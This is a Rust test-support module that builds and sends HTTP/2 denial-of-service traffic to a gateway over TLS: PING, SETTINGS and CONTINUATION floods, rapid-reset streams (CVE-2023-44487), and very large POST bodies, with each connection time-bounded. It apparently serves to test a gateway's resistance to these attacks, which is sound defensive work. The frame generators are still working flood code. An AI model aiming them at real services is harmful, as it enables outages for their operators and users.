//! Transport attacks, as an attacker sends them: HTTP/2 PING, SETTINGS and CONTINUATION
//! floods, rapid reset (CVE-2023-44487), and large bodies over HTTP/1.1 and HTTP/2. Each
//! runs against a gateway address over TLS, reads and discards what the gateway answers
//! (so that the gateway does all the work it can), and ends within a bound, whatever the
//! gateway does (it may stop reading, or close the connection).
//!
//! Include next to `support/wire.rs`.

#![allow(dead_code)]

use std::net::SocketAddr;
use std::time::Duration;

use rustls::pki_types::CertificateDer;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::wire::{self, frame, header_block, request_fields, settings};
use super::wire::{CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE};

/// Longest an attack connection is kept.
const BOUND: Duration = Duration::from_secs(10);

/// What an attack connection saw.
#[derive(Debug, Default)]
pub struct Outcome {
    /// Bytes the attacker managed to write.
    pub written: usize,
    /// Bytes the gateway sent back.
    pub received: usize,
}

/// Opens an HTTP/2 connection, writes `frames` (after the preface and SETTINGS) while
/// reading and discarding the answers, then closes; bounded by [`BOUND`].
pub async fn h2_flood(
    addr: SocketAddr,
    ca: &CertificateDer<'static>,
    frames: impl Iterator<Item = Vec<u8>> + Send + 'static,
) -> Outcome {
    let tls = wire::connect(addr, ca, &[b"h2"]).await;
    assert_eq!(tls.get_ref().1.alpn_protocol(), Some(&b"h2"[..]));
    let (mut rd, mut wr) = tokio::io::split(tls);
    let reader = tokio::spawn(async move {
        let mut buf = vec![0u8; 64 * 1024];
        let mut received = 0;
        while let Ok(n @ 1..) = rd.read(&mut buf).await {
            received += n;
        }
        received
    });
    let writer = async move {
        let mut written = 0;
        let mut batch = PREFACE.to_vec();
        batch.extend(settings(&[]));
        for f in frames {
            batch.extend(f);
            if batch.len() >= 64 * 1024 {
                if wr.write_all(&batch).await.is_err() {
                    return written;
                }
                written += batch.len();
                batch.clear();
            }
        }
        if wr.write_all(&batch).await.is_ok() && wr.flush().await.is_ok() {
            written += batch.len();
        }
        let _ = wr.shutdown().await;
        written
    };
    let written = tokio::time::timeout(BOUND, writer).await.unwrap_or(0);
    let received = match tokio::time::timeout(BOUND, reader).await {
        Ok(Ok(n)) => n,
        _ => 0,
    };
    Outcome { written, received }
}

/// `n` PING frames, each asking for an acknowledgement.
pub fn pings(n: usize) -> impl Iterator<Item = Vec<u8>> + Send {
    (0..n as u64).map(|i| frame(PING, 0, 0, &i.to_be_bytes()))
}

/// `n` SETTINGS frames, each asking for an acknowledgement.
pub fn settings_frames(n: usize) -> impl Iterator<Item = Vec<u8>> + Send {
    (0..n as u32).map(|i| settings(&[(0x3, 100 + i % 50), (0x4, 65_535 + i)]))
}

/// One request's HEADERS without END_HEADERS, then `n` CONTINUATION frames of 16 KiB of
/// literal fields, never ending the header block.
pub fn continuations(n: usize) -> impl Iterator<Item = Vec<u8>> + Send {
    let head = frame(
        HEADERS,
        0,
        1,
        &header_block(&request_fields("GET", "/flood")),
    );
    let value = "c".repeat(16 * 1024 - 16);
    let block = header_block(&[("x-flood", &value)]);
    std::iter::once(head).chain((0..n).map(move |_| frame(CONTINUATION, 0, 1, &block)))
}

/// `n` requests, each reset (RST_STREAM CANCEL) right after its HEADERS.
pub fn rapid_resets(n: usize) -> impl Iterator<Item = Vec<u8>> + Send {
    let block = header_block(&request_fields("GET", "/reset"));
    (0..n as u32).flat_map(move |i| {
        let stream = 1 + 2 * i;
        [
            frame(HEADERS, END_STREAM | END_HEADERS, stream, &block),
            frame(wire::RST_STREAM, 0, stream, &0x8u32.to_be_bytes()),
        ]
    })
}

/// One POST to `path` over HTTP/2 with a `size`-byte body in 16 KiB DATA frames.
pub fn h2_post(
    path: &'static str,
    content_type: &'static str,
    size: usize,
) -> impl Iterator<Item = Vec<u8>> + Send {
    let length = size.to_string();
    let mut fields = request_fields("POST", path);
    fields.push(("content-type", content_type));
    fields.push(("content-length", &length));
    let head = frame(HEADERS, END_HEADERS, 1, &header_block(&fields));
    let chunk = vec![b'a'; 16 * 1024];
    let chunks = size.div_ceil(chunk.len());
    std::iter::once(head).chain((0..chunks).map(move |i| {
        let last = i + 1 == chunks;
        let len = if last {
            size - i * chunk.len()
        } else {
            chunk.len()
        };
        frame(DATA, if last { END_STREAM } else { 0 }, 1, &chunk[..len])
    }))
}

/// One HTTP/1.1 POST to `path` with a `size`-byte body, written whole while the answer is
/// read and discarded.
pub async fn h1_post(
    addr: SocketAddr,
    ca: &CertificateDer<'static>,
    path: &str,
    content_type: &str,
    size: usize,
) -> Outcome {
    let tls = wire::connect(addr, ca, &[b"http/1.1"]).await;
    let (mut rd, mut wr) = tokio::io::split(tls);
    let reader = tokio::spawn(async move {
        let mut buf = vec![0u8; 16 * 1024];
        let mut received = 0;
        while let Ok(n @ 1..) = rd.read(&mut buf).await {
            received += n;
        }
        received
    });
    let head = format!(
        "POST {path} HTTP/1.1\r\nhost: auth.example.com\r\ncontent-type: {content_type}\r\n\
         content-length: {size}\r\nconnection: close\r\n\r\n"
    );
    let writer = async move {
        let mut written = 0;
        if wr.write_all(head.as_bytes()).await.is_err() {
            return written;
        }
        let chunk = vec![b'a'; 64 * 1024];
        let mut left = size;
        while left > 0 {
            let n = left.min(chunk.len());
            if wr.write_all(&chunk[..n]).await.is_err() {
                return written;
            }
            written += n;
            left -= n;
        }
        let _ = wr.flush().await;
        written
    };
    let written = tokio::time::timeout(BOUND, writer).await.unwrap_or(0);
    let received = match tokio::time::timeout(BOUND, reader).await {
        Ok(Ok(n)) => n,
        _ => 0,
    };
    Outcome { written, received }
}
